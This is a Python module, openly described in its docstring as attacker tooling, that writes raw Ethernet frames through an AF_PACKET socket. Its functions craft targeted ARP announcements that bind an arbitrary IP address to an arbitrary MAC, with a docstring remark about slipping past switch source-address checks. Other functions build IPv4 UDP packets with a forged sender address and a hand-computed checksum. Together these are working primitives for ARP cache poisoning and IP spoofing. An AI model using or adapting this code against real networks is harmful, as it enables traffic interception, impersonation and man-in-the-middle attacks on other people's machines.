"""Frames that an attacker writes himself (AF_PACKET): ARP, and UDP with any sender that he likes."""
import socket
import struct
from typing import NamedTuple

ALL = 0x0003
"""ETH_P_ALL of linux/if_ether.h."""
IPV4, ARP = 0x0800, 0x0806
BROADCAST = b'\xff' * 6


class Card(NamedTuple):
    """An Ethernet card of this machine, and its first address."""

    wire: socket.socket
    mac: bytes
    address: str


class Datagram(NamedTuple):
    """What goes into an IPv4 UDP packet."""

    source: str
    source_port: int
    target: str
    target_port: int
    payload: bytes


def open_card(address: str, name: str = 'eth0') -> Card:
    """The card, for frames in both directions. Needs CAP_NET_RAW."""
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL))
    wire.bind((name, ALL))
    mac = bytes(wire.getsockname()[4])
    return Card(wire, mac, address)


def read_mac(text: str) -> bytes:
    """Six bytes of `52:54:…` or `52-54-…`."""
    return bytes.fromhex(text.replace(':', '').replace('-', ''))


def mac_of(address: str) -> bytes:
    """Of a neighbour that this machine has just talked to."""
    with open('/proc/net/arp', encoding='ascii') as table:
        for line in table:
            words = line.split()
            if words[0] == address:
                return read_mac(words[3])
    raise LookupError(f'no neighbour {address}')


def announcement(card: Card, to: bytes, address: str, mac: bytes) -> bytes:
    """ARP to one machine: this address is at that MAC (RFC 5227 section 3). The frame's own sender stays ours:
    no check of source addresses at a switch sees anything."""
    packed = socket.inet_aton(address)
    body = struct.pack('!HHBBH', 1, IPV4, 6, 4, 1) + mac + packed + bytes(6) + packed
    return to + card.mac + struct.pack('!H', ARP) + body


def datagram(ether_source: bytes, ether_target: bytes, what: Datagram) -> bytes:
    """A frame with a UDP packet; its UDP checksum is 0, which means none (RFC 768)."""
    udp = struct.pack('!HHHH', what.source_port, what.target_port, 8 + len(what.payload), 0) + what.payload
    head = struct.pack(
        '!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
        socket.inet_aton(what.source), socket.inet_aton(what.target))
    head = head[:10] + struct.pack('!H', _checksum(head)) + head[12:]
    return ether_target + ether_source + struct.pack('!H', IPV4) + head + udp


def _checksum(data: bytes) -> int:
    """RFC 1071, of an even number of bytes."""
    total: int = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total > 0xffff:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
